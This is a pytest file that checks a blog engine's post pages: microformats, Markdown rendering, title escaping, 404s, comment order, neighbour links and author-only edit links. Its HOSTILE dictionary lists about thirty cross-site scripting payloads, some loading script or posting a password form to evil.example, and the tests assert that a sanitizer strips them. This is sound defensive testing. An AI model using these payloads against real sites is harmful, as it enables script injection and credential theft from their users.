"""A post and what stands around it."""

import pytest

from .browser import words
from .contract import row

MARKDOWN = """\
An *emphasized* and a **strong** word, a [link](https://example.org/a?b=1&c=2)
and `code & more`.

- first
- second

1. one
2. two

> quoted

```
if a < b:
    return "block"
```

## A heading
"""

HOSTILE = {
    "script": "<script>alert(1)</script>",
    "split script": "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "upper script": "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "image handler": "<img src=x onerror=alert(1)>",
    "slash handler": "<svg/onload=alert(1)>",
    "svg script": "<svg><script>alert(1)</script></svg>",
    "svg animation": "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
    "math": "<math><mtext><table><mglyph><style><!--</style>"
    '<img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">',
    "frame": '<iframe src="https://evil.example/"></iframe>',
    "frame document": '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
    "object": '<object data="https://evil.example/"></object><embed src="x">',
    "style": "<style>body { display: none }</style>",
    "style attribute": '<p style="position: fixed; inset: 0">over all</p>',
    "form": '<form action="https://evil.example/"><input name="password"></form>',
    "meta": '<meta http-equiv="refresh" content="0; url=https://evil.example/">',
    "base": '<base href="https://evil.example/">',
    "html link": '<a href="javascript:alert(1)">click</a>',
    "link": "[click](javascript:alert(1))",
    "upper link": "[click](JaVaScRiPt:alert(1))",
    "encoded link": "[click](&#106;avascript:alert(1))",
    "tab in link": "[click](java&#9;script:alert(1))",
    "reference link": "[click][x]\n\n[x]: javascript:alert(1)",
    "automatic link": "<javascript:alert(1)>",
    "data link": "[click](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    "vbscript link": "[click](vbscript:msgbox(1))",
    "image source": "![x](javascript:alert(1))",
    "title of link": "[click](https://example.org/ '\" onmouseover=\"alert(1)')",
    "address of link": '[click](https://example.org/"onmouseover="alert(1))',
    "alternative text": '![" onerror="alert(1)](x)',
    "code language": '```" onmouseover="alert(1)\nx\n```',
    "comment": "<!--><img src=x onerror=alert(1)>-->",
    "cdata": "<![CDATA[<script>alert(1)</script>]]>",
    "unclosed": "<img src=x onerror=alert(1)//",
    "details": "<details open ontoggle=alert(1)>x</details>",
}

FORBIDDEN = (
    "script, style, iframe, frame, object, embed, form, input, button, meta, base, "
    "link, svg, math, template, noscript, textarea, [style], [srcdoc], [formaction]"
)


@pytest.fixture(scope="module")
def rendered(pen):
    """A post with every kind of markup, as its page shows it."""
    return pen.get(pen.write_post(body=MARKDOWN).address).soup.select_one(".e-content")


@row("POST-1")
def test_a_post_is_one_entry_with_title_author_date_and_text(browser, pen, post):
    page = browser.get(post.address)
    entries = [item for item in page.microformats if item["type"] == ["h-entry"]]

    assert page.status == 200
    assert len(entries) == 1
    assert entries[0]["properties"]["name"] == [post.title]
    author = entries[0]["properties"]["author"][0]
    assert author["type"] == ["h-card"]
    assert author["properties"]["name"] == [pen.username]
    assert author["properties"]["url"] == [browser.url + pen.author_address]
    assert len(entries[0]["properties"]["published"]) == 1
    assert entries[0]["properties"]["content"][0]["value"].strip() == post.body


@row("POST-2")
@pytest.mark.parametrize(
    ("selector", "text"),
    [
        ("em", "emphasized"),
        ("strong", "strong"),
        ('a[href="https://example.org/a?b=1&c=2"]', "link"),
        ("p code", "code & more"),
        ("ul > li", "first"),
        ("ol > li", "one"),
        ("blockquote", "quoted"),
        ("pre code", 'if a < b: return "block"'),
        ("h2, h3, h4", "A heading"),
    ],
)
def test_the_text_is_rendered(rendered, selector, text):
    assert words(rendered.select_one(selector)) == text


@row("POST-2")
def test_lines_of_code_stay_lines(rendered):
    assert "if a < b:\n    return" in rendered.select_one("pre").get_text()


@row("POST-3")
@pytest.mark.parametrize("markup", HOSTILE.values(), ids=HOSTILE)
def test_hostile_markup_does_not_reach_the_page(pen, browser, markup):
    post = pen.write_post(body=f"before\n\n{markup}\n\nafter")
    content = browser.get(post.address).as_browsers_read.select_one(".e-content")

    assert content.select(FORBIDDEN) == []
    for element in content.select("*"):
        for name, value in element.attrs.items():
            assert not name.startswith("on")
            squeezed = "".join(str(value).split()).lower()
            assert not squeezed.startswith(("javascript:", "data:", "vbscript:"))


@row("POST-3")
def test_hostile_markup_does_not_reach_the_lists(author, browser):
    author.write_posts(5, body="\n\n".join(HOSTILE.values()))

    for address in ("/", author.author_address):
        main = browser.get(address).as_browsers_read.select_one("main")
        assert main.select(FORBIDDEN) == []
        assert not [
            name
            for element in main.select("*")
            for name in element.attrs
            if name.startswith("on")
        ]


@row("POST-4")
@pytest.mark.parametrize(
    "title",
    [
        "<b>bold</b> & \"quoted\" 'twice'",
        "<script>alert(1)</script>",
        "&lt;b&gt; &amp;amp; &copy;",
        "**not bold** [no](link)",
        "{{ 7 * 7 }} {% now %} %s {0}",
        "Ünï – 題 \U0001f40d",
    ],
)
def test_the_title_is_shown_as_typed(pen, browser, title):
    post = pen.write_post(title=title)
    page = browser.get(post.address)

    assert page.heading == title
    assert page.soup.title.get_text().strip().startswith(title)
    assert browser.get(pen.author_address).entries[0].title == title


@row("POST-5")
def test_a_deleted_post_is_not_found(pen, browser, post):
    pen.send(post.delete_address)

    assert browser.get(post.address).status == 404


@row("POST-5")
def test_an_id_that_no_post_has_yet_is_not_found(browser, old_post):
    assert browser.get(f"/posts/{old_post.id + 10**6}/").status == 404


@row("POST-6")
@pytest.mark.parametrize("number", [0, 2**31, 2**63 - 1, 2**63, 10**20, 10**400])
def test_an_id_of_no_possible_post_is_not_found(browser, number):
    assert browser.get(f"/posts/{number}/").status == 404


@row("POST-7")
def test_comments_are_citations_oldest_first(browser, pen, post):
    browser.reply(post, name="Kim", body="I was first.")
    pen.reply(post, body="I was second.")
    entry = next(
        item
        for item in browser.get(post.address).microformats
        if item["type"] == ["h-entry"]
    )
    comments = entry["properties"]["comment"]

    assert [comment["type"] for comment in comments] == [["h-cite"]] * 2
    found = [comment["properties"] for comment in comments]
    assert [card["author"][0]["properties"]["name"] for card in found] == [
        ["Kim"],
        [pen.username],
    ]
    assert [words_of(comment["content"][0]) for comment in found] == [
        "I was first.",
        "I was second.",
    ]
    assert found[0]["published"] <= found[1]["published"]


def words_of(content):
    """The text of a microformats property, plain or with its HTML."""
    return (content["value"] if isinstance(content, dict) else content).strip()


@row("POST-8")
def test_a_post_without_comments_invites_the_first(browser, post):
    invitation = "No comments yet. Be the first."

    assert invitation in browser.get(post.address).words
    browser.reply(post)
    assert invitation not in browser.get(post.address).words


@row("POST-9")
def test_neighbors_are_the_next_older_and_the_next_newer_post(browser, pen):
    older, middle, newer = pen.write_posts(3)

    assert step_towards(browser, middle, "prev", older)
    assert step_towards(browser, middle, "next", newer)
    assert step_towards(browser, newer, "prev", middle)
    assert step_towards(browser, older, "next", middle)


def step_towards(browser, start, rel, goal):
    """Whether the links lead there; posts of others may stand between."""
    address = start.address
    for _ in range(20):
        address = browser.get(address).link(rel)
        number = int(address.split("/")[2])
        if number == goal.id:
            return True
        assert (number < goal.id) == (goal.id > start.id), f"{rel} jumps over {goal.id}"
    return False


@row("POST-10")
def test_the_newest_post_has_no_newer_and_the_oldest_no_older_neighbor(
    demo_site, visit
):
    reader = visit(demo_site)
    first = reader.get("/")
    last = max(
        int(link.split("page=")[1])
        for link in first.links()
        if link.startswith("/?page=")
    )
    newest = reader.get(first.entries[0].address)
    oldest = reader.get(reader.get(f"/?page={last}").entries[-1].address)

    assert newest.link("next") is None
    assert newest.link("prev") == first.entries[1].address
    assert oldest.link("prev") is None
    assert oldest.link("next") is not None


@row("POST-10")
def test_posts_of_one_moment_are_neighbors_by_their_ids(long_site, visit):
    reader = visit(long_site)
    newest = reader.get("/").entries[0].id
    page = reader.get(f"/posts/{newest - 100}/")

    assert reader.get(f"/posts/{newest}/").link("next") is None
    assert page.link("prev") == f"/posts/{newest - 101}/"
    assert page.link("next") == f"/posts/{newest - 99}/"


@row("POST-11")
def test_edit_and_delete_are_offered_to_the_author(pen, old_post):
    links = pen.get(old_post.address).links()

    assert old_post.edit_address in links
    assert old_post.delete_address in links


@row("POST-11")
@pytest.mark.parametrize("who", ["browser", "stranger"])
def test_edit_and_delete_are_offered_to_nobody_else(request, old_post, who):
    page = request.getfixturevalue(who).get(old_post.address)

    assert old_post.edit_address not in page.text
    assert old_post.delete_address not in page.text
